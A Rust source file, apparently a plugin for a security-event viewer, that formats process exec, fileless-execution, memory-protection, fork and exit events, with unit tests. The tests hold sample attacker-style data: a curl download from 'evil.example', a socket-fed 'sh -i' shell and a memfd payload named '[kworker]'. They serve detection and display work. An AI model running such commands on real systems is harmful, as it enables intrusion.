//! `process`: readable Info and fields for process life-cycle events: `sched_process_exec`, `execve`,
//! `execveat`, the findings `fileless_execution` and `dynamic_code_loading`, `mem_prot_alert`,
//! `sched_process_fork` and `sched_process_exit`. Other events are left alone.
//!
//! Every text is built from the event alone, so the same event always reads the same; the formats
//! are listed in `defaults/README.md` (section `process`).

use trackershark_plugin::{as_i64, clip, export_plugin, show_info, Event, Field, Plugin, Value};

/// Longest command line inside an Info text, in bytes (the `[Command Line]` field holds more).
pub const INFO_CMDLINE_MAX: usize = 256;

pub struct Process {
    exec_path: Field,
    interpreter: Field,
    stdin_type: Field,
    fileless_source: Field,
    mem_alert: Field,
    mem_prot: Field,
    fork_kind: Field,
    exit_status: Field,
    exit_signal: Field,
}

impl Plugin for Process {
    fn describe() -> Self {
        Process {
            exec_path: Field::declare("proc_exec_path", "Executed Path"),
            interpreter: Field::declare("proc_interpreter", "Interpreter"),
            stdin_type: Field::declare("proc_stdin_type", "Stdin Type"),
            fileless_source: Field::declare("proc_fileless_source", "In-Memory Source"),
            mem_alert: Field::declare("proc_mem_alert", "Memory Alert"),
            mem_prot: Field::declare("proc_mem_prot", "Memory Protection"),
            fork_kind: Field::declare("proc_fork_kind", "Fork Kind"),
            exit_status: Field::declare("proc_exit_status", "Exit Status"),
            exit_signal: Field::declare("proc_exit_signal", "Exit Signal"),
        }
    }

    fn enrich(&mut self, event: &Event) -> Result<(), String> {
        match event.name() {
            "sched_process_exec" => self.exec(event),
            "execve" | "execveat" => self.execve(event),
            "fileless_execution" => self.fileless(event),
            "dynamic_code_loading" => self.mem_alert(event, Some("dynamic code loading: ")),
            "mem_prot_alert" => self.mem_alert(event, None),
            "sched_process_fork" => self.fork(event),
            "sched_process_exit" => self.exit(event),
            _ => {}
        }
        Ok(())
    }
}

export_plugin!(Process);

impl Process {
    fn exec(&self, e: &Event) {
        let pathname = nonempty(e.arg("pathname"));
        let cmdpath = nonempty(e.arg("cmdpath"));
        let path = pathname.or(cmdpath);
        let cmdline = e.arg("argv").and_then(command_line);
        if path.is_none() && cmdline.is_none() {
            return;
        }
        let mut info = String::from("exec");
        if let Some(path) = path {
            info.push(' ');
            info.push_str(path);
            self.exec_path.put(path);
        }
        // The kernel names the interpreter of a script (or of a binfmt_misc format) in `interp`;
        // otherwise `interp` repeats the path the program was called by.
        let called = cmdpath.or(pathname);
        if let Some(interp) = nonempty(e.arg("interp")).filter(|i| Some(*i) != called) {
            match cmdpath.filter(|c| Some(*c) != path) {
                Some(script) => info.push_str(&format!(" (script {script} via {interp})")),
                None => info.push_str(&format!(" (via {interp})")),
            }
            self.interpreter.put(interp);
        }
        if e.arg("invoked_from_kernel").is_some_and(truthy) {
            info.push_str(" (from kernel)");
        }
        if let Some(cmdline) = &cmdline {
            info.push_str(": ");
            info.push_str(&clip(cmdline, INFO_CMDLINE_MAX));
        }
        if let Some(kind) = e.arg("stdin_type").and_then(file_type) {
            self.stdin_type.put(&kind);
            if kind == "pipe" || kind == "socket" {
                match nonempty(e.arg("stdin_path")) {
                    Some(p) => info.push_str(&format!(" (stdin: {kind} {p})")),
                    None => info.push_str(&format!(" (stdin: {kind})")),
                }
            }
        }
        show_info(&info);
    }

    fn execve(&self, e: &Event) {
        let path = nonempty(e.arg("pathname"));
        let cmdline = e.arg("argv").and_then(command_line);
        let dirfd = e.arg("dirfd").and_then(trackershark_plugin::text);
        let mut info = e.name().to_string();
        match (path, &dirfd) {
            (Some(path), _) => {
                info.push(' ');
                info.push_str(path);
                self.exec_path.put(path);
            }
            (None, Some(fd)) if e.name() == "execveat" => info.push_str(&format!(" fd {fd}")),
            _ if cmdline.is_none() => return,
            _ => {}
        }
        if let Some(cmdline) = &cmdline {
            info.push_str(": ");
            info.push_str(&clip(cmdline, INFO_CMDLINE_MAX));
        }
        if let Some(rv) = e.i64("returnValue").filter(|rv| *rv < 0) {
            info.push_str(&format!(" = {rv}"));
        }
        show_info(&info);
    }

    fn fileless(&self, e: &Event) {
        let source = nonempty(e.arg_or_trigger("pathname")).or_else(|| nonempty(e.arg_or_trigger("cmdpath")));
        let cmdline = e.arg_or_trigger("argv").and_then(command_line);
        let mut info = String::from("fileless execution");
        match source {
            Some(source) => {
                info.push_str(" of ");
                info.push_str(source);
                self.fileless_source.put(source);
            }
            None if cmdline.is_none() => return,
            None => {}
        }
        if let Some(cmdline) = &cmdline {
            info.push_str(&format!(" (argv: {})", clip(cmdline, INFO_CMDLINE_MAX)));
        }
        show_info(&info);
    }

    /// `mem_prot_alert`, and `dynamic_code_loading` whose own arguments or triggering event carry
    /// the alert's arguments.
    fn mem_alert(&self, e: &Event, prefix: Option<&str>) {
        let alert = e.arg_or_trigger("alert").and_then(alert_text);
        let mut details = Vec::new();
        if let Some(addr) = e.arg_or_trigger("addr").and_then(address) {
            details.push(addr);
        }
        if let Some(len) = e.arg_or_trigger("len").and_then(as_i64) {
            details.push(format!("{len} bytes"));
        }
        let prot = e.arg_or_trigger("prot").and_then(protection);
        let prev = e.arg_or_trigger("prev_prot").and_then(protection);
        let change = match (prev, prot) {
            (Some(prev), Some(prot)) => Some(format!("{prev} → {prot}")),
            (None, Some(prot)) => Some(prot),
            (Some(prev), None) => Some(format!("was {prev}")),
            (None, None) => None,
        };
        if let Some(change) = &change {
            details.push(change.clone());
        }
        if let Some(path) = nonempty(e.arg_or_trigger("pathname")) {
            details.push(path.to_string());
        }
        if alert.is_none() && details.is_empty() {
            return;
        }
        let mut info = prefix.unwrap_or("").to_string();
        info.push_str(alert.as_deref().unwrap_or("memory protection alert"));
        if !details.is_empty() {
            info.push_str(&format!(" ({})", details.join(", ")));
        }
        if let Some(alert) = &alert {
            self.mem_alert.put(alert);
        }
        if let Some(change) = &change {
            self.mem_prot.put(change);
        }
        show_info(&info);
    }

    fn fork(&self, e: &Event) {
        let parent_pid = e.arg_i64("parent_pid").or_else(|| e.arg_i64("parent_process_pid"));
        let child_pid = e.arg_i64("child_pid");
        let child_tid = e.arg_i64("child_tid");
        let child = match (child_pid, child_tid) {
            (Some(pid), Some(tid)) if pid != tid => {
                self.fork_kind.put("thread");
                format!("thread tid {tid}")
            }
            (Some(pid), _) => {
                self.fork_kind.put("process");
                format!("child pid {pid}")
            }
            (None, Some(tid)) => format!("child tid {tid}"),
            (None, None) => return,
        };
        let name = e.str("processName").filter(|n| !n.is_empty());
        let parent = match (name, parent_pid) {
            (Some(n), Some(p)) => format!("{n} (pid {p})"),
            (Some(n), None) => n.to_string(),
            (None, Some(p)) => format!("pid {p}"),
            (None, None) => "?".to_string(),
        };
        show_info(&format!("fork: {parent} → {child}"));
    }

    fn exit(&self, e: &Event) {
        let Some(code) = e.arg_i64("exit_code") else { return };
        let mut who = e.str("processName").filter(|n| !n.is_empty()).unwrap_or("process").to_string();
        if e.arg("process_group_exit").is_some_and(|v| !truthy(v)) {
            who.push_str(" thread");
        }
        // Tracker writes the kernel's wait status (`exit_code`), or, where it also writes
        // `signal_code`, the exit status and the signal apart.
        // A negative wait status is no status: it is shown as it is.
        let (status, signal, core) = match e.arg_i64("signal_code") {
            Some(sig) => (code, sig & 0x7f, false),
            None if code < 0 => (code, 0, false),
            None => ((code >> 8) & 0xff, code & 0x7f, code & 0x80 != 0),
        };
        if signal == 0 {
            self.exit_status.put(&status.to_string());
            show_info(&format!("{who} exited with status {status}"));
        } else {
            let mut sig = signal_name(signal);
            if core {
                sig.push_str(", core dumped");
            }
            self.exit_signal.put(&sig);
            show_info(&format!("{who} killed by {sig}"));
        }
    }
}

fn nonempty(v: Option<&Value>) -> Option<&str> {
    v.and_then(Value::as_str).filter(|s| !s.is_empty())
}

/// True for `true`, a non-zero number, or the text `true`/`1`.
fn truthy(v: &Value) -> bool {
    match v {
        Value::Bool(b) => *b,
        Value::String(s) => s.eq_ignore_ascii_case("true") || as_i64(v).is_some_and(|n| n != 0),
        _ => as_i64(v).is_some_and(|n| n != 0),
    }
}

/// The command line: an array of words joined shell-like ([`quote`]; numbers and booleans written
/// out, other items left out), or text kept as it is.
pub fn command_line(argv: &Value) -> Option<String> {
    match argv {
        Value::Array(words) if !words.is_empty() => {
            let words: Vec<String> = words
                .iter()
                .filter_map(|w| match w {
                    Value::String(s) => Some(quote(s)),
                    other => trackershark_plugin::text(other),
                })
                .collect();
            Some(words.join(" "))
        }
        Value::String(s) if !s.is_empty() => Some(s.clone()),
        _ => None,
    }
}

/// A word as a shell would need it: as it is when plain; in single quotes when empty or holding
/// white space, a quote, `\`, `$`, a backquote or one of `;&|<>()` (a `'` written `'\''`); in
/// `$'…'` with escapes (`\n`, `\t`, `\r`, `\\`, `\'`, `\xHH`, `\uHHHH`) when holding control
/// characters.
pub fn quote(word: &str) -> String {
    if word.chars().any(char::is_control) {
        let mut out = String::from("$'");
        for c in word.chars() {
            match c {
                '\n' => out.push_str("\\n"),
                '\t' => out.push_str("\\t"),
                '\r' => out.push_str("\\r"),
                '\\' => out.push_str("\\\\"),
                '\'' => out.push_str("\\'"),
                c if c.is_control() && (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
                c if c.is_control() => out.push_str(&format!("\\u{:04x}", c as u32)),
                c => out.push(c),
            }
        }
        out.push('\'');
        out
    } else if word.is_empty() || word.chars().any(|c| c.is_whitespace() || "'\"\\$`;&|<>()".contains(c)) {
        format!("'{}'", word.replace('\'', "'\\''"))
    } else {
        word.to_string()
    }
}

/// File types of `umode_t` (`S_IFMT` bits), named.
const FILE_TYPES: &[(i64, &str, &str)] = &[
    (0o140000, "S_IFSOCK", "socket"),
    (0o120000, "S_IFLNK", "symlink"),
    (0o100000, "S_IFREG", "regular file"),
    (0o060000, "S_IFBLK", "block device"),
    (0o040000, "S_IFDIR", "directory"),
    (0o020000, "S_IFCHR", "character device"),
    (0o010000, "S_IFIFO", "pipe"),
];

/// The file type of a mode, numeric or written as `S_IF…` names; `None` when the mode has no type
/// bits (no file).
pub fn file_type(mode: &Value) -> Option<String> {
    if let Some(n) = as_i64(mode) {
        let t = n & 0o170000;
        if t == 0 {
            return None;
        }
        return Some(match FILE_TYPES.iter().find(|(v, _, _)| *v == t) {
            Some((_, _, name)) => name.to_string(),
            None => format!("unknown ({t:#o})"),
        });
    }
    let s = mode.as_str()?;
    s.split(|c: char| c == '|' || c.is_whitespace())
        .find_map(|token| FILE_TYPES.iter().find(|(_, n, _)| *n == token))
        .map(|(_, _, name)| name.to_string())
}

/// Texts of the `mem_prot_alert` `alert` values.
const ALERTS: &[(i64, &str)] = &[
    (1, "Mmaped region with W+E permissions!"),
    (2, "Protection changed to Executable!"),
    (3, "Protection changed from E to W+E!"),
    (4, "Protection changed from W to E!"),
];

/// The alert's text: looked up when numeric, kept when already text.
pub fn alert_text(alert: &Value) -> Option<String> {
    match as_i64(alert) {
        Some(n) => Some(match ALERTS.iter().find(|(v, _)| *v == n) {
            Some((_, text)) => text.to_string(),
            None => format!("unknown alert {n}"),
        }),
        None => alert.as_str().filter(|s| !s.is_empty()).map(str::to_string),
    }
}

/// An address as `0x…` hex (text that is not a number is kept).
fn address(v: &Value) -> Option<String> {
    match as_i64(v) {
        Some(n) => Some(format!("{:#x}", n as u64)),
        None => v.as_str().filter(|s| !s.is_empty()).map(str::to_string),
    }
}

/// `mmap`/`mprotect` protection as `rwx` letters (`-` for a missing right), from a number or from
/// `PROT_READ|PROT_WRITE|PROT_EXEC|PROT_NONE` names; other text is kept.
pub fn protection(v: &Value) -> Option<String> {
    let bits = match as_i64(v) {
        Some(n) => n,
        None => {
            let s = v.as_str().filter(|s| !s.is_empty())?;
            let mut bits = 0;
            let mut known = false;
            for token in s.split(|c: char| c == '|' || c.is_whitespace()).filter(|t| !t.is_empty()) {
                match token {
                    "PROT_READ" => bits |= 1,
                    "PROT_WRITE" => bits |= 2,
                    "PROT_EXEC" => bits |= 4,
                    "PROT_NONE" => {}
                    _ => continue,
                }
                known = true;
            }
            if !known {
                return Some(s.to_string());
            }
            bits
        }
    };
    let flag = |bit: i64, c: char| if bits & bit != 0 { c } else { '-' };
    Some([flag(1, 'r'), flag(2, 'w'), flag(4, 'x')].iter().collect())
}

/// Linux signal names (x86_64 and the generic numbering).
const SIGNALS: &[&str] = &[
    "SIGHUP",
    "SIGINT",
    "SIGQUIT",
    "SIGILL",
    "SIGTRAP",
    "SIGABRT",
    "SIGBUS",
    "SIGFPE",
    "SIGKILL",
    "SIGUSR1",
    "SIGSEGV",
    "SIGUSR2",
    "SIGPIPE",
    "SIGALRM",
    "SIGTERM",
    "SIGSTKFLT",
    "SIGCHLD",
    "SIGCONT",
    "SIGSTOP",
    "SIGTSTP",
    "SIGTTIN",
    "SIGTTOU",
    "SIGURG",
    "SIGXCPU",
    "SIGXFSZ",
    "SIGVTALRM",
    "SIGPROF",
    "SIGWINCH",
    "SIGIO",
    "SIGPWR",
    "SIGSYS",
];

/// `SIGKILL (9)`, or `signal 40` for numbers without a name.
pub fn signal_name(n: i64) -> String {
    match usize::try_from(n).ok().filter(|n| *n >= 1).and_then(|n| SIGNALS.get(n - 1)) {
        Some(name) => format!("{name} ({n})"),
        None => format!("signal {n}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use trackershark_plugin::serde_json::json;
    use trackershark_plugin::test_host::{run, Record};
    use trackershark_plugin::{FIELD_MAX, INFO_MAX};

    fn go(event: Value) -> Record {
        run::<Process>(&event.to_string()).unwrap()
    }

    #[test]
    fn declares_nine_fields_with_lower_case_abbrevs() {
        let r = go(json!({"eventName": "open"}));
        assert_eq!(r.declared.len(), 9);
        for (abbrev, name) in &r.declared {
            assert!(abbrev.starts_with("proc_"));
            assert!(abbrev.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'));
            assert!(!name.is_empty());
        }
        assert!(r.declared.contains(&("proc_exec_path".into(), "Executed Path".into())));
        assert!(r.declared.contains(&("proc_stdin_type".into(), "Stdin Type".into())));
    }

    #[test]
    fn other_events_are_left_alone() {
        for name in ["open", "security_socket_connect", "", "sched_process_execx"] {
            let r = go(json!({"eventName": name, "args": {"pathname": "/x", "argv": ["x"]}}));
            assert!(r.info.is_none() && r.fields.is_empty(), "{name}");
        }
        let r = go(json!({"args": {"pathname": "/x"}}));
        assert!(r.info.is_none() && r.fields.is_empty());
    }

    #[test]
    fn exec_of_a_binary() {
        let r = go(json!({"eventName": "sched_process_exec", "processName": "curl", "args": {
            "cmdpath": "/usr/bin/curl", "pathname": "/usr/bin/curl",
            "interpreter_pathname": "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            "argv": ["curl", "-s", "http://evil.example/x.sh", "-o", "/tmp/x y.sh"],
            "interp": "/usr/bin/curl", "stdin_type": 8192, "stdin_path": "/dev/pts/0", "invoked_from_kernel": 0}}));
        assert_eq!(r.info.as_deref(), Some("exec /usr/bin/curl: curl -s http://evil.example/x.sh -o '/tmp/x y.sh'"));
        assert_eq!(
            r.fields,
            vec![
                ("proc_exec_path".into(), "/usr/bin/curl".into()),
                ("proc_stdin_type".into(), "character device".into()),
            ]
        );
    }

    #[test]
    fn exec_of_a_script_names_its_interpreter() {
        let r = go(json!({"eventName": "sched_process_exec", "args": {
            "cmdpath": "./run.sh", "pathname": "/usr/bin/dash", "interp": "/bin/sh", "argv": ["./run.sh", "a b"]}}));
        assert_eq!(r.info.as_deref(), Some("exec /usr/bin/dash (script ./run.sh via /bin/sh): ./run.sh 'a b'"));
        assert_eq!(r.first("proc_interpreter"), Some("/bin/sh"));
        assert_eq!(r.first("proc_exec_path"), Some("/usr/bin/dash"));
        // without cmdpath, interp is compared with pathname
        let r = go(
            json!({"eventName": "sched_process_exec", "args": {"pathname": "/tmp/x.py", "interp": "/usr/bin/python3"}}),
        );
        assert_eq!(r.info.as_deref(), Some("exec /tmp/x.py (via /usr/bin/python3)"));
        // a symlink called by its name is no script
        let r = go(json!({"eventName": "sched_process_exec", "args": {
            "cmdpath": "/usr/bin/python3", "pathname": "/usr/bin/python3.11", "interp": "/usr/bin/python3", "argv": ["python3"]}}));
        assert_eq!(r.info.as_deref(), Some("exec /usr/bin/python3.11: python3"));
        assert_eq!(r.first("proc_interpreter"), None);
        // empty interp says nothing
        let r = go(json!({"eventName": "sched_process_exec", "args": {"pathname": "/bin/ls", "interp": ""}}));
        assert_eq!(r.info.as_deref(), Some("exec /bin/ls"));
    }

    #[test]
    fn exec_stdin_pipe_socket_and_kernel() {
        let r = go(json!({"eventName": "sched_process_exec", "args": {
            "pathname": "/bin/sh", "argv": ["sh", "-i"], "stdin_type": 0o140777, "stdin_path": "socket:[5678]"}}));
        assert_eq!(r.info.as_deref(), Some("exec /bin/sh: sh -i (stdin: socket socket:[5678])"));
        assert_eq!(r.first("proc_stdin_type"), Some("socket"));
        let r = go(json!({"eventName": "sched_process_exec", "args": {
            "pathname": "/bin/sh", "argv": ["sh"], "stdin_type": "4480"}}));
        assert_eq!(r.info.as_deref(), Some("exec /bin/sh: sh (stdin: pipe)"));
        let r = go(json!({"eventName": "sched_process_exec", "args": {
            "pathname": "/sbin/modprobe", "argv": ["/sbin/modprobe", "-q", "--", "net-pf-38"],
            "invoked_from_kernel": true, "stdin_type": 0}}));
        assert_eq!(r.info.as_deref(), Some("exec /sbin/modprobe (from kernel): /sbin/modprobe -q -- net-pf-38"));
        assert_eq!(r.first("proc_stdin_type"), None);
        let r = go(json!({"eventName": "sched_process_exec", "args": {"pathname": "/x", "invoked_from_kernel": "1"}}));
        assert_eq!(r.info.as_deref(), Some("exec /x (from kernel)"));
    }

    #[test]
    fn file_types() {
        let cases = [
            (json!(0o140000), Some("socket")),
            (json!(0o120777), Some("symlink")),
            (json!(0o100644), Some("regular file")),
            (json!(0o060660), Some("block device")),
            (json!(0o040755), Some("directory")),
            (json!(0o020620), Some("character device")),
            (json!(0o010600), Some("pipe")),
            (json!(0o170000), Some("unknown (0o170000)")),
            (json!(0o644), None),
            (json!("0x1180"), Some("pipe")),
            (json!("S_IFIFO|S_IRUSR"), Some("pipe")),
            (json!("S_IFCHR"), Some("character device")),
            (json!("weird"), None),
            (json!(null), None),
            (json!([1]), None),
        ];
        for (v, want) in cases {
            assert_eq!(file_type(&v).as_deref(), want, "{v}");
        }
    }

    #[test]
    fn quoting() {
        assert_eq!(quote("plain-word_1/x=y"), "plain-word_1/x=y");
        assert_eq!(quote("[kworker]"), "[kworker]");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("a b"), "'a b'");
        assert_eq!(quote("it's"), "'it'\\''s'");
        assert_eq!(quote("say \"hi\""), "'say \"hi\"'");
        assert_eq!(quote("$HOME"), "'$HOME'");
        assert_eq!(quote("a;b"), "'a;b'");
        assert_eq!(quote("a\nb'c\x01\\"), "$'a\\nb\\'c\\x01\\\\'");
        assert_eq!(quote("\u{85}"), "$'\\u0085'");
        assert_eq!(command_line(&json!(["echo", "", 5, null])).as_deref(), Some("echo '' 5"));
        assert_eq!(command_line(&json!("already a line")).as_deref(), Some("already a line"));
        assert_eq!(command_line(&json!([])), None);
        assert_eq!(command_line(&json!("")), None);
        assert_eq!(command_line(&json!({"a": 1})), None);
    }

    #[test]
    fn exec_odd_shapes_do_not_panic() {
        for args in [
            json!({}),
            json!({"pathname": 5, "argv": 7}),
            json!({"pathname": "", "cmdpath": "", "argv": []}),
            json!({"pathname": null, "argv": {"x": 1}, "stdin_type": "x"}),
        ] {
            let r = go(json!({"eventName": "sched_process_exec", "args": args}));
            assert!(r.info.is_none() && r.fields.is_empty(), "{args}");
        }
        let r = go(json!({"eventName": "sched_process_exec", "args": "nope"}));
        assert!(r.info.is_none());
        let r = go(json!({"eventName": "sched_process_exec", "args": {"cmdpath": "/bin/true"}}));
        assert_eq!(r.info.as_deref(), Some("exec /bin/true"));
        let r = go(json!({"eventName": "sched_process_exec", "args": {"argv": ["true"]}}));
        assert_eq!(r.info.as_deref(), Some("exec: true"));
    }

    #[test]
    fn long_values_are_clipped() {
        let long = "a".repeat(10_000);
        let r =
            go(json!({"eventName": "sched_process_exec", "args": {"pathname": "/bin/echo", "argv": ["echo", long]}}));
        let info = r.info.clone().unwrap();
        assert!(info.len() <= INFO_MAX && info.ends_with('…'));
        assert!(info.starts_with("exec /bin/echo: echo aaa"));
        let wide = "é".repeat(5000);
        let r = go(json!({"eventName": "sched_process_exec", "args": {"pathname": wide}}));
        assert!(r.info.as_ref().unwrap().len() <= INFO_MAX);
        assert!(r.first("proc_exec_path").unwrap().len() <= FIELD_MAX);
        assert_eq!(clip("abc", 3), "abc");
        assert_eq!(clip("abcdef", 4), "a…");
        assert_eq!(clip("éé", 3), "…");
    }

    #[test]
    fn execve_and_execveat() {
        let r = go(json!({"eventName": "execve", "args": {
            "pathname": "/usr/bin/ls", "argv": ["ls", "-l", "my dir"], "envp": ["A=1"]}}));
        assert_eq!(r.info.as_deref(), Some("execve /usr/bin/ls: ls -l 'my dir'"));
        assert_eq!(r.first("proc_exec_path"), Some("/usr/bin/ls"));
        let r = go(json!({"eventName": "execve", "returnValue": -2, "args": {"pathname": "/nope", "argv": ["nope"]}}));
        assert_eq!(r.info.as_deref(), Some("execve /nope: nope = -2"));
        let r = go(json!({"eventName": "execveat", "args": {
            "dirfd": 3, "pathname": "", "argv": ["payload"], "flags": 4096}}));
        assert_eq!(r.info.as_deref(), Some("execveat fd 3: payload"));
        assert_eq!(r.first("proc_exec_path"), None);
        let r = go(json!({"eventName": "execveat", "args": {"dirfd": "AT_FDCWD", "pathname": "./a"}}));
        assert_eq!(r.info.as_deref(), Some("execveat ./a"));
        let r = go(json!({"eventName": "execve", "args": {"argv": ["x"]}}));
        assert_eq!(r.info.as_deref(), Some("execve: x"));
        let r = go(json!({"eventName": "execve", "args": {"dirfd": 3}}));
        assert!(r.info.is_none());
        let r = go(json!({"eventName": "execve"}));
        assert!(r.info.is_none() && r.fields.is_empty());
    }

    #[test]
    fn fileless_from_trigger_or_own_args() {
        let r = go(json!({"eventName": "fileless_execution", "processName": "3",
            "signature": {"id": "TRC-105", "name": "Fileless Execution", "severity": 3},
            "triggeredBy": {"eventName": "sched_process_exec", "args": {
                "cmdpath": "/dev/fd/3", "pathname": "memfd:payload", "argv": ["[kworker]"]}}}));
        assert_eq!(r.info.as_deref(), Some("fileless execution of memfd:payload (argv: [kworker])"));
        assert_eq!(r.fields, vec![("proc_fileless_source".into(), "memfd:payload".into())]);
        let r = go(json!({"eventName": "fileless_execution", "args": {
            "cmdpath": "/dev/fd/3", "pathname": "/dev/shm/x", "argv": ["x", "-c", "id; uname"]}}));
        assert_eq!(r.info.as_deref(), Some("fileless execution of /dev/shm/x (argv: x -c 'id; uname')"));
        let r = go(json!({"eventName": "fileless_execution", "triggeredBy": {"args": {"cmdpath": "/dev/fd/4"}}}));
        assert_eq!(r.info.as_deref(), Some("fileless execution of /dev/fd/4"));
        let r = go(json!({"eventName": "fileless_execution", "triggeredBy": {"args": {"argv": ["a"]}}}));
        assert_eq!(r.info.as_deref(), Some("fileless execution (argv: a)"));
        for shape in [json!({}), json!({"triggeredBy": 5}), json!({"triggeredBy": {"args": []}}), json!({"args": null})]
        {
            let mut e = shape.clone();
            e["eventName"] = json!("fileless_execution");
            let r = go(e);
            assert!(r.info.is_none() && r.fields.is_empty(), "{shape}");
        }
    }

    #[test]
    fn dynamic_code_loading_and_mem_prot_alert() {
        let r = go(json!({"eventName": "dynamic_code_loading",
            "signature": {"id": "TRC-104"},
            "triggeredBy": {"eventName": "mem_prot_alert", "args": {
                "alert": 4, "addr": 139_637_976_731_648u64, "len": 4096, "prot": 5, "prev_prot": 3,
                "pathname": "/usr/lib/libjit.so"}}}));
        assert_eq!(
            r.info.as_deref(),
            Some("dynamic code loading: Protection changed from W to E! (0x7f0000001000, 4096 bytes, rw- → r-x, /usr/lib/libjit.so)")
        );
        assert_eq!(
            r.fields,
            vec![
                ("proc_mem_alert".into(), "Protection changed from W to E!".into()),
                ("proc_mem_prot".into(), "rw- → r-x".into()),
            ]
        );
        let r = go(
            json!({"eventName": "mem_prot_alert", "args": {"alert": 1, "addr": "0x7f00", "len": 8192, "prot": "PROT_READ|PROT_WRITE|PROT_EXEC"}}),
        );
        assert_eq!(r.info.as_deref(), Some("Mmaped region with W+E permissions! (0x7f00, 8192 bytes, rwx)"));
        let r = go(json!({"eventName": "mem_prot_alert", "args": {"alert": "Protection changed to Executable!"}}));
        assert_eq!(r.info.as_deref(), Some("Protection changed to Executable!"));
        let r = go(json!({"eventName": "mem_prot_alert", "args": {"alert": 9, "prev_prot": 0}}));
        assert_eq!(r.info.as_deref(), Some("unknown alert 9 (was ---)"));
        // the signature's own args carry the alert
        let r = go(json!({"eventName": "dynamic_code_loading", "args": {"alert": 3, "prot": 7, "prev_prot": 5}}));
        assert_eq!(r.info.as_deref(), Some("dynamic code loading: Protection changed from E to W+E! (r-x → rwx)"));
        let r = go(json!({"eventName": "dynamic_code_loading", "args": {"len": 10}}));
        assert_eq!(r.info.as_deref(), Some("dynamic code loading: memory protection alert (10 bytes)"));
        let r = go(json!({"eventName": "dynamic_code_loading", "triggeredBy": {"args": {"alert": ""}}}));
        assert!(r.info.is_none() && r.fields.is_empty());
        let r = go(json!({"eventName": "mem_prot_alert", "args": {"addr": {"x": 1}, "prot": [1]}}));
        assert!(r.info.is_none());
    }

    #[test]
    fn protections_and_alerts() {
        assert_eq!(protection(&json!(0)).as_deref(), Some("---"));
        assert_eq!(protection(&json!(7)).as_deref(), Some("rwx"));
        assert_eq!(protection(&json!("0x4")).as_deref(), Some("--x"));
        assert_eq!(protection(&json!("PROT_NONE")).as_deref(), Some("---"));
        assert_eq!(protection(&json!("PROT_WRITE | PROT_EXEC")).as_deref(), Some("-wx"));
        assert_eq!(protection(&json!("odd")).as_deref(), Some("odd"));
        assert_eq!(protection(&json!("")), None);
        assert_eq!(alert_text(&json!("2")).as_deref(), Some("Protection changed to Executable!"));
        assert_eq!(alert_text(&json!(0)).as_deref(), Some("unknown alert 0"));
        assert_eq!(alert_text(&json!(true)), None);
    }

    #[test]
    fn fork_of_process_and_thread() {
        let r = go(json!({"eventName": "sched_process_fork", "processName": "bash", "args": {
            "parent_tid": 100, "parent_ns_tid": 1, "parent_pid": 100, "parent_ns_pid": 1,
            "child_tid": 101, "child_ns_tid": 2, "child_pid": 101, "child_ns_pid": 2}}));
        assert_eq!(r.info.as_deref(), Some("fork: bash (pid 100) → child pid 101"));
        assert_eq!(r.fields, vec![("proc_fork_kind".into(), "process".into())]);
        let r = go(json!({"eventName": "sched_process_fork", "processName": "java", "args": {
            "parent_process_pid": 200, "child_tid": 205, "child_pid": 200}}));
        assert_eq!(r.info.as_deref(), Some("fork: java (pid 200) → thread tid 205"));
        assert_eq!(r.first("proc_fork_kind"), Some("thread"));
        let r = go(json!({"eventName": "sched_process_fork", "args": {"child_tid": "7"}}));
        assert_eq!(r.info.as_deref(), Some("fork: ? → child tid 7"));
        assert!(r.fields.is_empty());
        let r = go(json!({"eventName": "sched_process_fork", "args": {"parent_pid": 3, "child_pid": 9}}));
        assert_eq!(r.info.as_deref(), Some("fork: pid 3 → child pid 9"));
        let r = go(json!({"eventName": "sched_process_fork", "processName": "x", "args": {"child_pid": 9}}));
        assert_eq!(r.info.as_deref(), Some("fork: x → child pid 9"));
        let r = go(json!({"eventName": "sched_process_fork", "args": {"parent_pid": 3}}));
        assert!(r.info.is_none());
    }

    #[test]
    fn exit_status_and_signals() {
        let r = go(
            json!({"eventName": "sched_process_exit", "processName": "curl", "args": {"exit_code": 256, "process_group_exit": true}}),
        );
        assert_eq!(r.info.as_deref(), Some("curl exited with status 1"));
        assert_eq!(r.fields, vec![("proc_exit_status".into(), "1".into())]);
        let r = go(json!({"eventName": "sched_process_exit", "processName": "sleep", "args": {"exit_code": 9}}));
        assert_eq!(r.info.as_deref(), Some("sleep killed by SIGKILL (9)"));
        assert_eq!(r.fields, vec![("proc_exit_signal".into(), "SIGKILL (9)".into())]);
        let r = go(json!({"eventName": "sched_process_exit", "processName": "a.out", "args": {"exit_code": 139}}));
        assert_eq!(r.info.as_deref(), Some("a.out killed by SIGSEGV (11), core dumped"));
        let r = go(
            json!({"eventName": "sched_process_exit", "processName": "w", "args": {"exit_code": 0, "process_group_exit": false}}),
        );
        assert_eq!(r.info.as_deref(), Some("w thread exited with status 0"));
        let r = go(json!({"eventName": "sched_process_exit", "args": {"exit_code": 40}}));
        assert_eq!(r.info.as_deref(), Some("process killed by signal 40"));
        // exit status and signal written apart
        let r = go(
            json!({"eventName": "sched_process_exit", "processName": "x", "args": {"exit_code": 2, "signal_code": 0}}),
        );
        assert_eq!(r.info.as_deref(), Some("x exited with status 2"));
        let r = go(
            json!({"eventName": "sched_process_exit", "processName": "x", "args": {"exit_code": 0, "signal_code": 15}}),
        );
        assert_eq!(r.info.as_deref(), Some("x killed by SIGTERM (15)"));
        let r = go(json!({"eventName": "sched_process_exit", "args": {"exit_code": "z"}}));
        assert!(r.info.is_none() && r.fields.is_empty());
        let r = go(json!({"eventName": "sched_process_exit", "args": {"exit_code": -1}}));
        assert_eq!(r.info.as_deref(), Some("process exited with status -1"));
        assert_eq!(signal_name(0), "signal 0");
        assert_eq!(signal_name(31), "SIGSYS (31)");
        assert_eq!(signal_name(-3), "signal -3");
    }
}
